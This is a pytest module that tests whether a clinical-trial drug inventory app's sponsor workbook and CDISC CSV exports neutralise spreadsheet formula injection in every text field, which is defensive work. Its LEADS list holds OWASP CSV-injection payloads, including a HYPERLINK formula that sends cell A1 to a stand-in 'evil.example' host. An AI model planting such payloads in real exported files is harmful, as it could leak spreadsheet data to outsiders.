"""Exports are data, never code, whichever field the text came in by: the paths
test_export_cells.py leaves out.

A study is built through the real services with formula-leading text (each of OWASP's
leading characters, also after blanks) everywhere a person or a sponsor's file puts text:
kit and lot numbers from a kit list and a packing list, the shipment's number, sender,
carrier, tracking number and notes, a storage location, a product, subject IDs, a
prescriber, visits, return conditions, holds' details and the sponsor's references, a
count's resolution. The real files are read back: no cell but the workbook's totals is a
formula, every text is a string cell, the totals of a product named "=…" still reconcile,
and the CDISC file quotes its text and leaves its numbers bare.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlalchemy import select

from ids_app.db import Database
from ids_app.inventory.counts import CountedLine, discrepancies_of, record_count
from ids_app.inventory.counts import resolve_discrepancy as resolve
from ids_app.inventory.dispensing import create_order, prepare_order, verify_order
from ids_app.inventory.ledger import study_balances
from ids_app.inventory.locations import add_location
from ids_app.inventory.models import (
    HoldDecisionKind,
    HoldReason,
    Kit,
    Location,
    LocationKind,
    Lot,
    StockState,
)
from ids_app.inventory.packing_list import PackingListMapping, read_packing_list
from ids_app.inventory.quarantine import decide_hold, quarantine_stock
from ids_app.inventory.receiving import ReceivedLine, ShipmentReceipt, receive_shipment
from ids_app.inventory.returns import record_return
from ids_app.reports.exports import export_sponsor_workbook
from ids_app.reports.workbook import SHEETS
from ids_app.studies.kit_import import KitListMapping, import_kit_list
from ids_app.studies.models import Product, ProductRole, Study, SubjectStatus, Tracking
from ids_app.studies.services import add_prescriber, add_product, add_subject
from ids_app.studies.tables import read_table
from tests import databases
from tests.factories import EXPIRY, PASSWORD, TODAY, Example, make_example, prepared_item, scan_of
from tests.reports.formulas import Sheets
from tests.reports.test_export_cells import OWN_FORMULA, runs_in_a_spreadsheet

# What a spreadsheet reads as the start of a formula (OWASP, CSV injection).
LEADS = (
    "=1+1",
    "+cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"{}")',
)
ERROR_LOOKING = "#N/A"


def planted(lead: str, field: str) -> str:
    """Formula-leading text for one field, which names the field so it can be found."""
    return lead.format(field) if "{}" in lead else f"{lead} {field}"


def identifier(lead: str, field: str) -> str:
    """The same for a kit, lot, shipment or subject number: no spaces, trimmed as the
    services trim identifiers."""
    return planted(lead, field).replace(" ", "").strip()


@dataclass
class Planted:
    """The study's exported files, and every text that was typed or imported into it."""

    workbook: Path
    da_file: Path
    texts: list[str]
    identifiers: list[str]
    visits: list[str]
    kits: list[str]


def _write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


class Plant:
    """One case per lead: a kit list, a packing list, a shipment, a dispense, a return and
    a hold, each carrying that lead in every text it takes."""

    def __init__(self, db: Database, example: Example, folder: Path) -> None:
        self.db, self.example, self.folder = db, example, folder
        self.texts: list[str] = []
        self.identifiers: list[str] = []
        self.visits: list[str] = []
        self.kits: list[str] = []

    def text(self, lead: str, field: str) -> str:
        self.texts.append(planted(lead, field))
        return self.texts[-1]

    def ident(self, lead: str, field: str) -> str:
        self.identifiers.append(identifier(lead, field))
        return self.identifiers[-1]

    def study(self, session: Any) -> Study:
        return session.get_one(Study, self.example.study.id)

    def case(self, number: int, lead: str) -> None:
        people = self.example.people
        lot = self.ident(lead, f"lot{number}")
        kits = [self.ident(lead, f"kit{number}{which}") for which in "ab"]
        self.kits += kits
        # The sponsor's files carry the text as typed: their readers trim it.
        kit_list = _write_csv(
            self.folder / f"kits-{number}.csv",
            ["Kit Number", "Lot Number", "Expiry Date"],
            [[planted(lead, f"kit{number}{which}"), lot, EXPIRY.isoformat()] for which in "ab"],
        )
        packing = _write_csv(
            self.folder / f"packing-{number}.csv",
            ["Kit", "Lot", "Expiry"],
            [[kit, lot, EXPIRY.isoformat()] for kit in kits],
        )
        with self.db.unit_of_work() as session:
            study, product = self.study(session), session.get_one(Product, self.example.product.id)
            import_kit_list(
                session,
                people.tech,
                study,
                product,
                read_table(kit_list),
                KitListMapping("Kit Number", "Lot Number", "Expiry Date"),
            )
        with self.db.unit_of_work() as session:
            place = add_location(
                session,
                people.pharm,
                self.text(lead, f"location{number}"),
                LocationKind.SHELF,
                15,
                30,
            )
            location_id = place.id
        with self.db.unit_of_work() as session:
            study, product = self.study(session), session.get_one(Product, self.example.product.id)
            expected = read_packing_list(
                session,
                study,
                product,
                read_table(packing),
                PackingListMapping("Lot", "Expiry", "Kit"),
            )
            assert not expected.errors
            receive_shipment(
                session,
                people.tech,
                study,
                ShipmentReceipt(
                    shipment_number=self.ident(lead, f"shipment{number}"),
                    sender=self.text(lead, f"sender{number}"),
                    carrier=self.text(lead, f"carrier{number}"),
                    received_on=TODAY,
                    location_id=location_id,
                    lines=tuple(
                        ReceivedLine(product.id, lot, EXPIRY, kit_number=kit) for kit in kits
                    ),
                    packing_list=expected.expected,
                    tracking_number=self.text(lead, f"tracking{number}"),
                    notes=self.text(lead, f"notes{number}"),
                ),
            )
        self._dispense_and_return(number, lead, kits[0], location_id)
        self._hold_and_release(number, lead, kits[1], lot)

    def _dispense_and_return(self, number: int, lead: str, kit: str, location_id: int) -> None:
        people = self.example.people
        with self.db.unit_of_work() as session:
            study = self.study(session)
            subject = add_subject(
                session,
                people.tech,
                study,
                self.ident(lead, f"subject{number}"),
                "JD",
                status=SubjectStatus.ENROLLED,
            )
            prescriber = add_prescriber(
                session, people.tech, study, self.text(lead, f"prescriber{number}")
            )
            visit = self.text(lead, f"visit{number}")
            self.visits.append(visit)
            order = create_order(
                session,
                people.tech,
                study,
                subject=subject,
                prescriber=prescriber,
                product=session.get_one(Product, self.example.product.id),
                visit=visit,
                assigned_kit_number=kit,
            )
            order_id = order.id
        with self.db.unit_of_work() as session:
            order = prepare_order(
                session,
                people.tech,
                session.get_one(type(order), order_id),
                password=PASSWORD,
                item=scan_of(kit),
                location=session.get_one(Location, location_id),
            )
        with self.db.unit_of_work() as session:
            order = verify_order(
                session,
                people.pharm,
                session.get_one(type(order), order_id),
                password=PASSWORD,
                item=prepared_item(session, session.get_one(type(order), order_id)),
            )
        with self.db.unit_of_work() as session:
            record_return(
                session,
                people.tech,
                session.get_one(type(order), order_id),
                returned_on=TODAY,
                quantity=1,
                units_counted=3,
                condition=self.text(lead, f"condition{number}"),
                location=session.get_one(Location, self.example.returns.id),
            )

    def _hold_and_release(self, number: int, lead: str, kit: str, lot_number: str) -> None:
        people = self.example.people
        with self.db.unit_of_work() as session:
            hold = quarantine_stock(
                session,
                people.tech,
                self.study(session),
                reason=HoldReason.DAMAGE,
                details=self.text(lead, f"hold{number}"),
                kit=session.scalars(select(Kit).where(Kit.kit_number == kit)).one(),
            )
            decide_hold(
                session,
                people.pharm,
                hold,
                session.scalars(select(Lot).where(Lot.lot_number == lot_number)).one(),
                decision=HoldDecisionKind.RELEASE,
                sponsor_reference=self.text(lead, f"reference{number}"),
                password=PASSWORD,
            )

    def bulk_product_counted_short(self) -> None:
        """A product named by formula-leading text (its totals must still reconcile), carried
        by "#N/A", then counted one tablet short (a negative difference, which stays a
        number) and resolved with formula-leading text."""
        people, lead = self.example.people, LEADS[0]
        with self.db.unit_of_work() as session:
            study = self.study(session)
            product = add_product(
                session,
                people.pharm,
                study,
                agent_name=self.text(lead, "product"),
                strength="5 mg",
                dosage_form="tablet",
                unit="tablet",
                role=ProductRole.ACTIVE,
                tracking=Tracking.BULK,
                storage_min_c=15,
                storage_max_c=30,
                dispense_quantity=30,
                days_supply=30,
                doses_per_day=1,
            )
            receive_shipment(
                session,
                people.tech,
                study,
                ShipmentReceipt(
                    self.ident(lead, "bulkshipment"),
                    "Acme Depot",
                    # Text openpyxl would store as an error value, not as text.
                    ERROR_LOOKING,
                    TODAY,
                    self.example.shelf.id,
                    (ReceivedLine(product.id, self.ident(lead, "bulklot"), EXPIRY, quantity=100),),
                ),
            )
        with self.db.unit_of_work() as session:
            study = self.study(session)
            shelf = session.get_one(Location, self.example.shelf.id)
            counted = [
                CountedLine(row.lot_id, row.kit_id, row.state, row.quantity - 1)
                for row in study_balances(session, study.id)
                if row.location_id == shelf.id
                and row.state is StockState.AVAILABLE
                and row.kit_id is None
            ]
            count = record_count(session, people.tech, study, shelf, counted)
        with self.db.unit_of_work() as session:
            (short,) = discrepancies_of(session, count)
            resolve(session, people.pharm, short, self.text(lead, "resolution"), PASSWORD)


@pytest.fixture(scope="module")
def exported(migrated_template: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Planted]:
    folder = tmp_path_factory.mktemp("formulas")
    db, name = databases.fresh_database(migrated_template, folder)
    example = make_example(db)
    plant = Plant(db, example, folder)
    for number, lead in enumerate(LEADS):
        plant.case(number, lead)
    plant.bulk_product_counted_short()
    result = export_sponsor_workbook(
        db,
        example.people.tech,
        example.study.protocol_number,
        folder / "sponsor.xlsx",
        cdisc_out=folder / "da.csv",
    )
    assert result.cdisc_path is not None
    yield Planted(
        result.path, result.cdisc_path, plant.texts, plant.identifiers, plant.visits, plant.kits
    )
    databases.discard(db, name)


def _own_formula_row(sheet: str, first: Any, row: int, reconciliation_from: int) -> bool:
    if sheet == "Summary":
        return row >= reconciliation_from
    return isinstance(first, str) and first.startswith("Total")


def test_no_typed_text_is_a_formula_in_the_sponsor_workbook(exported: Planted) -> None:
    book = load_workbook(exported.workbook)
    assert book.sheetnames == list(SHEETS)
    summary_rows = [row[0].value for row in book["Summary"].iter_rows()]
    reconciliation_from = summary_rows.index("Product") + 2
    formulas = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas += 1
                    assert _own_formula_row(
                        sheet.title, row[0].value, cell.row, reconciliation_from
                    ), f"{sheet.title}!{cell.coordinate} {cell.value!r}"
                    assert OWN_FORMULA.match(cell.value), cell.value
                elif isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate}"
                    assert not runs_in_a_spreadsheet(cell.value), f"{sheet.title}!{cell.coordinate}"
    assert formulas > 0, "the totals are still formulas"


def _texts_of(path: Path) -> set[str]:
    book = load_workbook(path)
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def _as_stored(text: str) -> str:
    """What the xlsx gives back: XML reads a carriage return as a line feed."""
    return text.replace("\r", "\n")


def test_every_typed_text_reaches_the_workbook_and_never_bare(exported: Planted) -> None:
    """Each text is in a sheet (its own column, or the audit trail's record of it); where
    a cell begins with it, the cell begins with the single quote. Services trim what is
    typed, so the text is looked for trimmed."""
    texts = {_as_stored(text) for text in _texts_of(exported.workbook)}
    for typed in (_as_stored(text).strip() for text in exported.identifiers + exported.texts):
        assert any(typed in text for text in texts), repr(typed)
        assert all(text.startswith("'") for text in texts if text.startswith(typed)), repr(typed)


def _column(book: Any, sheet: str, header: str) -> list[Any]:
    """The cells under ``header``, totals rows left out."""
    rows = list(book[sheet].iter_rows())
    index = [cell.value for cell in rows[0]].index(header)
    return [row[index] for row in rows[1:] if not str(row[0].value).startswith("Total")]


def test_text_that_looks_like_an_error_value_stays_text(exported: Planted) -> None:
    carriers = _column(load_workbook(exported.workbook), "Shipments", "Carrier")
    assert [c.data_type for c in carriers if c.value == ERROR_LOOKING] == ["s"]


def test_numbers_dates_and_totals_stay_typed(exported: Planted) -> None:
    book = load_workbook(exported.workbook)
    dispensed_at = _column(book, "Dispensing", "Dispensed at")
    assert len(dispensed_at) == len(LEADS)
    assert all(isinstance(cell.value, dt.datetime) for cell in dispensed_at)
    quantities = _column(book, "Dispensing", "Quantity")
    assert {(cell.value, cell.data_type) for cell in quantities} == {(1, "n")}
    differences = _column(book, "Discrepancies", "Difference")
    assert [(cell.value, cell.data_type) for cell in differences] == [(-1, "n")]
    sheets = Sheets(load_workbook(exported.workbook))
    summary = list(book["Summary"].iter_rows(values_only=True))
    first = [row[0] for row in summary].index("Product") + 2
    reconciled = [sheets.value("Summary", "I", row) for row in range(first, len(summary) + 1)]
    assert reconciled
    assert set(reconciled) == {"yes"}


def test_the_cdisc_file_quotes_and_neutralises_every_text(exported: Planted) -> None:
    with exported.da_file.open(newline="", encoding="utf-8") as handle:
        # Read so: unquoted fields come back as numbers, quoted ones as text.
        header, *rows = list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))
    assert rows
    for row in rows:
        for name, value in zip(header, row, strict=True):
            if name in ("DASEQ", "DASTRESN"):
                assert isinstance(value, float)
            else:
                assert isinstance(value, str)
                assert not runs_in_a_spreadsheet(value), (name, value)
    refids = {row[header.index("DAREFID")] for row in rows}
    visits = {row[header.index("VISIT")] for row in rows}
    assert {"'" + kit for kit in exported.kits[::2]} <= refids
    assert {"'" + visit.strip().upper() for visit in exported.visits} <= visits
